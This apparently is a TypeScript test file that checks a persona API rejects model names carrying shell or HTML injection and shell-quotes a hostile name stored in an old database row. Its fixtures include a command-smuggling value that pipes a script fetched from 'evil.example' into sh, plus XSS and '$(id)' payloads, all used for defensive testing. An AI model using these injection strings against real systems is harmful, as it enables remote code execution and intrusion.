/**
 * A persona's `model` is a model name, never a shell command (attack20 F5): `persona.create` and
 * `persona.update` refuse other characters with -32602, and the "ollama pull" hint quotes a name
 * stored before the rule (an old row) as one shell word.
 */
import { tempDirSync } from "../core/testing/temp_dirs.ts";
import assert from "node:assert/strict";
import { RpcCallError, RpcClient, startTestServer } from "./_helpers.ts";
import { FakeOllama } from "./fake_ollama.ts";

const HOSTILE = "llama3; curl -s http://evil.example/x.sh | sh #";

async function refusedWith(promise: Promise<unknown>): Promise<RpcCallError> {
  try {
    await promise;
  } catch (error) {
    assert.ok(error instanceof RpcCallError, String(error));
    return error;
  }
  assert.fail("accepted");
}

Deno.test("persona.create and persona.update refuse a model that is not a model name (-32602)", async () => {
  const fake = FakeOllama.start({ models: ["llama3.1:8b"] });
  const server = await startTestServer({ OLLAMA_HOST: fake.url });
  const client = await RpcClient.connect(server.wsUrl);
  try {
    for (const model of [HOSTILE, "m<img src=x onerror=alert(1)>", "a b", "x$(id)", "`id`"]) {
      const error = await refusedWith(client.call("persona.create", { name: "Mallory", model }));
      assert.equal(error.code, -32602);
      assert.match(error.message, /model.*must be a model name/);
    }
    const rest = await fetch(`${server.apiUrl}/personas`, {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ name: "Mallory", model: HOSTILE }),
    });
    assert.equal(rest.status, 400);
    assert.equal((await rest.json()).error.code, -32602);
    const created = await client.call<{ persona_id: string }>("persona.create", {
      name: "Hugo",
      model: "hf.co/bartowski/Llama-3.2-1B-Instruct-GGUF:Q4_K_M",
    });
    const update = await refusedWith(
      client.call("persona.update", { persona_id: created.persona_id, model: HOSTILE }),
    );
    assert.equal(update.code, -32602);
    for (const model of ["openai:gpt-4o-mini", "llama3.2:3b", "user/model@sha256+x"]) {
      await client.call("persona.update", { persona_id: created.persona_id, model });
    }
  } finally {
    await client.close();
    await server.shutdown();
    await fake.stop();
  }
});

Deno.test("an old row's hostile model is quoted as one word in the ollama pull hint", async () => {
  const fake = FakeOllama.start({ models: ["llama3.1:8b"] });
  const dataDir = tempDirSync("persona-test-");
  const env = { OLLAMA_HOST: fake.url, DATA_DIR: dataDir };
  const first = await startTestServer(env);
  let personaId: string;
  try {
    const client = await RpcClient.connect(first.wsUrl);
    personaId = (await client.call<{ persona_id: string }>("persona.create", {
      name: "Old Row",
      model: "llama3.1:8b",
    })).persona_id;
    await client.close();
    // Written before the rule existed: straight into the database.
    await first.services.db.run("UPDATE personas SET model = ? WHERE id = ?", HOSTILE, personaId);
  } finally {
    await first.shutdown();
  }
  const server = await startTestServer(env);
  const client = await RpcClient.connect(server.wsUrl);
  try {
    await client.call("persona.switch", { persona_id: personaId });
    const error = await refusedWith(client.call("conversation.send_message", { content: "hi" }));
    assert.equal(error.code, -32003);
    const data = error.data as { reason: string; hint: string };
    assert.equal(data.reason, "model_missing");
    assert.ok(
      data.hint.includes(`ollama pull '${HOSTILE}'`),
      `the name is one quoted word: ${data.hint}`,
    );
  } finally {
    await client.close();
    await server.shutdown();
    await fake.stop();
  }
});
